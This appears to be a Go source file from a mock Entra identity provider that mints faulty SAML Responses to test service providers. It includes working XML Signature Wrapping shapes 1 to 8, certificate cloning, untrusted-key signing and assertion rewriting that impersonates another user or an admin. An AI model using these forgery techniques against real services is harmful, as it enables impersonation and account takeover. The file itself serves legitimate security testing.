package idp

import (
	"bytes"
	"compress/flate"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"time"

	"github.com/beevik/etree"
)

// signNone is the mint's signing option for a Response with no signature at all.
const signNone = "none"

// Delivery of a minted SAML Response.
const (
	deliverPOST     = ""         // HTTP-POST binding (Entra's only one)
	deliverRedirect = "redirect" // HTTP-Redirect: not allowed for Responses by the Web SSO profile
	deliverStatus   = "status"   // an error Status Response with no assertion
)

// samlMint is what a SAML fault changes in one Response. The catalog's hooks fill it; the
// builder applies it on top of the Response Entra would send.
type samlMint struct {
	s    *Server
	t    *Tenant
	app  *EnterpriseApp
	user *User
	// now is the IdP's time for this Response (the server clock plus the fault's offset).
	now time.Time
	// offset is the clock fault: how far this context's IdP runs ahead (or behind).
	offset time.Duration
	// option and algorithm override the app's signing settings ("" keeps them).
	option, algorithm string
	// key signs instead of the app's active key; its certificate goes into KeyInfo.
	key *SigningKey
	// encrypt, when set, encrypts the assertion to it even if the app does not encrypt.
	encrypt *EncryptionKey
	// edits change the unsigned tree (response, assertion) before signing.
	edits []func(resp, assertion *etree.Element)
	// after change the signed document (wrapping, tampering, comments, DOCTYPE).
	after []func(doc *etree.Document, resp *etree.Element) error
	// decoy is what an SP fooled by the fault signs in instead of the user (MintedFault.Decoy).
	decoy string
	// raw changes the bytes as sent, for what the tree cannot hold (an entity reference).
	raw []func([]byte) []byte
	// deliver is how the Response travels.
	deliver string
	// changed says, for the sign-in log, what the fault did.
	changed []string
}

func (m *samlMint) edit(f func(resp, assertion *etree.Element)) { m.edits = append(m.edits, f) }

func (m *samlMint) then(f func(doc *etree.Document, resp *etree.Element) error) {
	m.after = append(m.after, f)
}

// sent applies the raw edits to the Response's bytes.
func (m *samlMint) sent(b []byte) []byte {
	for _, f := range m.raw {
		b = f(b)
	}
	return b
}

func (m *samlMint) note(format string, args ...any) {
	m.changed = append(m.changed, fmt.Sprintf(format, args...))
}

// victim is the user a forged part names: another enabled user of the tenant (or a
// made-up admin when the tenant has no other), so an SP fooled by it signs in someone else.
func (s *Server) victim(t *Tenant, u *User) *User {
	for _, v := range t.Users {
		if v.ID != u.ID && v.Enabled() {
			return v
		}
	}
	domain := "example.com"
	if len(t.VerifiedDomains) > 0 {
		domain = t.VerifiedDomains[0]
	}
	return &User{ID: "00000000-0000-0000-0000-00000000ad01", UserPrincipalName: "admin@" + domain, Mail: "admin@" + domain,
		DisplayName: "Administrator", GivenName: "Admin", Surname: "Istrator"}
}

// evilize makes an assertion speak for the victim: its NameID and its attributes become the
// victim's, everything else (times, audience, IDs) stays.
func (m *samlMint) evilize(a *etree.Element) {
	v := m.s.victim(m.t, m.user)
	if nid := a.FindElement("./Subject/NameID"); nid != nil {
		id, _ := m.s.nameID(m.t, m.app, v, nid.SelectAttrValue("Format", ""))
		nid.SetText(id)
	}
	if as := a.FindElement("./AttributeStatement"); as != nil {
		for _, c := range as.ChildElements() {
			as.RemoveChild(c)
		}
		for _, at := range m.s.samlAttributes(m.t, m.app, v) {
			ae := as.CreateElement("Attribute")
			ae.CreateAttr("Name", at.Name)
			for _, val := range at.Values {
				ae.CreateElement("AttributeValue").SetText(val)
			}
		}
	}
}

// child returns el's first child element with the local name (any prefix).
func child(el *etree.Element, local string) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == local {
			return c
		}
	}
	return nil
}

// removeSignature drops el's own ds:Signature child, if any.
func removeSignature(el *etree.Element) {
	if sig := child(el, "Signature"); sig != nil {
		el.RemoveChild(sig)
	}
}

// firstAssertion is the Response's Assertion child.
func firstAssertion(resp *etree.Element) *etree.Element { return child(resp, "Assertion") }

// otherAppURL is an ACS / identifier of an app that is not the SP under test.
const otherAppURL = "https://other-app.example.test/saml/acs"

// otherTenantID is the tenant a wrong Issuer names.
const otherTenantID = "72f988bf-86f1-41af-91ab-2d7cd011db47"

// newFaultKey makes a fresh key and a certificate for it.
func (s *Server) newFaultKey(subject string, notBefore, notAfter time.Time) (*SigningKey, error) {
	key, err := s.keygen()
	if err != nil {
		return nil, err
	}
	cert, err := selfSignedCert(key, subject, notBefore, notAfter)
	if err != nil {
		return nil, err
	}
	return &SigningKey{Cert: cert, Key: key}, nil
}

// Kinds of published fault certificates.
const (
	certRollover    = "rollover"
	certExpired     = "expired"
	certNotYetValid = "not-yet-valid"
)

// appFaultCert returns the app certificate a certificate fault signs with, published in the
// app's metadata as Entra publishes every certificate of an app: a configured one when the
// app has it (a published inactive certificate for rollover, an expired or not-yet-valid
// one), else one made now and published from now on (as "New Certificate" does).
func (s *Server) appFaultCert(app *EnterpriseApp, kind string) (*SigningKey, error) {
	now := s.clock.Now()
	for _, k := range s.appKeys[app] {
		if k.Active || !k.Published {
			continue
		}
		switch {
		case kind == certRollover && k.ValidAt(now),
			kind == certExpired && now.After(k.Cert.NotAfter),
			kind == certNotYetValid && now.Before(k.Cert.NotBefore):
			return k, nil
		}
	}
	name := "app-" + app.AppID + "-" + kind
	return s.faultKeyFor(name, func() (*SigningKey, error) {
		fits := func(k *SigningKey) bool {
			switch kind {
			case certExpired:
				return now.After(k.Cert.NotAfter)
			case certNotYetValid:
				return now.Before(k.Cert.NotBefore)
			}
			return k.ValidAt(now)
		}
		// Under KeyDir the certificate is kept, so that `mockidp metadata --fault-certs` and a
		// later serve publish the same one (an SP loads metadata once, before the run); it is
		// made again only when it no longer fits its kind (a not-yet-valid one after a day).
		path := ""
		if s.cfg.KeyDir != "" {
			path = filepath.Join(s.cfg.KeyDir, "fault-"+name+".pem")
			if key, cert, _, err := readKeyFile(path); err == nil && cert != nil {
				if k := (&SigningKey{Cert: cert, Key: key, Published: true}); fits(k) {
					return k, nil // published by being stored (faultKeyFor; storedAppCerts)
				}
			}
		}
		nb, na := now.Add(-time.Minute), now.AddDate(3, 0, 0)
		switch kind {
		case certExpired:
			nb, na = now.AddDate(-3, 0, -1), now.AddDate(0, 0, -1)
		case certNotYetValid:
			nb = now.AddDate(0, 0, 1)
		}
		k, err := s.newFaultKey(DefaultCertSubject, nb, na)
		if err != nil {
			return nil, err
		}
		k.Published = true
		if path != "" {
			if err := writeKeyFile(path, k.Key, k.Cert, "fault certificate "+kind); err != nil {
				return nil, err
			}
		}
		return k, nil // published by being stored (faultKeyFor; storedAppCerts)
	})
}

// publishedKeys is what the app's metadata lists: its certificates plus those published for
// certificate faults (by any replica sharing the store).
func (s *Server) publishedKeys(app *EnterpriseApp) []*SigningKey {
	return append(append([]*SigningKey(nil), s.appKeys[app]...), s.storedAppCerts(app)...)
}

// untrustedKey is a key nobody published, with a certificate shaped like Entra's.
func (s *Server) untrustedKey() (*SigningKey, error) {
	return s.faultKeyFor("untrusted", func() (*SigningKey, error) {
		now := s.clock.Now()
		return s.newFaultKey(DefaultCertSubject, now.Add(-time.Minute), now.AddDate(3, 0, 0))
	})
}

// clonedKey is SAML Raider's certificate clone of the app's signing certificate: the same
// subject, issuer, serial number, validity and extensions, self-signed by a new key.
func (s *Server) clonedKey(app *EnterpriseApp) (*SigningKey, error) {
	orig := s.activeKey(app)
	if orig == nil {
		return nil, fmt.Errorf("app %q has no signing certificate", app.DisplayName)
	}
	return s.faultKeyFor("clone-"+orig.Thumbprint(), func() (*SigningKey, error) {
		key, err := s.keygen()
		if err != nil {
			return nil, err
		}
		tmpl := &x509.Certificate{
			SerialNumber: orig.Cert.SerialNumber, Subject: orig.Cert.Subject, Issuer: orig.Cert.Issuer,
			NotBefore: orig.Cert.NotBefore, NotAfter: orig.Cert.NotAfter, SignatureAlgorithm: orig.Cert.SignatureAlgorithm,
			ExtraExtensions: orig.Cert.Extensions,
		}
		der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
		if err != nil {
			return nil, err
		}
		cert, err := x509.ParseCertificate(der)
		if err != nil {
			return nil, err
		}
		return &SigningKey{Cert: cert, Key: key}, nil
	})
}

// xsw applies SAML Raider's XML Signature Wrapping shape n (1–8) to a signed document
// (CompassSecurity/SAMLRaider, helpers/XSWHelpers.java, after Somorovsky et al., "On
// Breaking SAML", USENIX Security 2012). 1–2 wrap a signed Response, 3–8 a signed Assertion.
// The evil element names the victim; the signature is untouched and still valid for the
// element it references.
func (m *samlMint) xsw(n int, doc *etree.Document, resp *etree.Element) error {
	sigOf := func(el *etree.Element) (*etree.Element, error) {
		sig := child(el, "Signature")
		if sig == nil {
			return nil, fmt.Errorf("xsw%d: <%s> is not signed", n, el.Tag)
		}
		return sig, nil
	}
	evilID := "_" + m.s.rand.guid()
	switch n {
	case 1, 2:
		sig, err := sigOf(resp)
		if err != nil {
			return err
		}
		clone := resp.Copy() // the original, signed content
		removeSignature(clone)
		m.evilize(firstAssertion(resp))
		if n == 1 {
			sig.AddChild(clone) // the original inside the Signature
		} else {
			resp.InsertChildAt(sig.Index(), clone) // the original just before the Signature
		}
		resp.CreateAttr("ID", evilID)
	case 3, 4:
		a := firstAssertion(resp)
		if _, err := sigOf(a); err != nil {
			return err
		}
		evil := a.Copy()
		m.evilize(evil)
		evil.CreateAttr("ID", evilID)
		removeSignature(evil)
		if n == 3 {
			resp.InsertChildAt(a.Index(), evil) // evil first, original after
		} else {
			resp.RemoveChild(a)
			resp.AddChild(evil)
			evil.AddChild(a) // the original inside the evil assertion
		}
	case 5, 6, 8:
		evil := firstAssertion(resp) // keeps the original Signature
		sig, err := sigOf(evil)
		if err != nil {
			return err
		}
		orig := evil.Copy()
		removeSignature(orig)
		m.evilize(evil)
		switch n {
		case 5:
			resp.AddChild(orig) // the unsigned original at the end of the Response
			evil.CreateAttr("ID", evilID)
		case 6:
			sig.AddChild(orig) // the unsigned original inside the Signature
			evil.CreateAttr("ID", evilID)
		case 8:
			sig.CreateElement("Object").AddChild(orig) // inside ds:Object; the evil keeps the ID
		}
	case 7:
		a := firstAssertion(resp)
		if _, err := sigOf(a); err != nil {
			return err
		}
		ext := etree.NewElement("Extensions")
		resp.InsertChildAt(a.Index(), ext)
		evil := a.Copy()
		m.evilize(evil)
		removeSignature(evil)
		ext.AddChild(evil) // an unsigned evil copy (same ID) in an Extensions element
	default:
		return fmt.Errorf("no XSW shape %d", n)
	}
	return nil
}

// sendMintedSAML delivers a minted Response: by HTTP-POST (Entra's binding) or, for the
// binding fault, by HTTP-Redirect.
func (s *Server) sendMintedSAML(w http.ResponseWriter, r *http.Request, m *samlMint, acs, relay string, xmlBytes []byte) {
	if m == nil || m.deliver != deliverRedirect {
		fields := []formField{{Name: "SAMLResponse", b64: xmlBytes}}
		if relay != "" {
			fields = append(fields, formField{Name: "RelayState", Value: relay})
		}
		s.renderPostForm(w, acs, fields...)
		return
	}
	w.Header().Set("Cache-Control", "no-cache, no-store")
	http.Redirect(w, r, redirectBindingURL(acs, xmlBytes, relay), http.StatusFound)
}

// redirectBindingURL is dest with a SAML message in the HTTP-Redirect binding's query:
// SAMLResponse = base64(DEFLATE(xml)), then RelayState.
func redirectBindingURL(dest string, xml []byte, relay string) string {
	var buf bytes.Buffer
	fw, _ := flate.NewWriter(&buf, flate.DefaultCompression)
	_, _ = fw.Write(xml)
	_ = fw.Close()
	q := url.Values{"SAMLResponse": {base64.StdEncoding.EncodeToString(buf.Bytes())}}
	if relay != "" {
		q.Set("RelayState", relay)
	}
	sep := "?"
	if strings.Contains(dest, "?") {
		sep = "&"
	}
	return dest + sep + q.Encode()
}
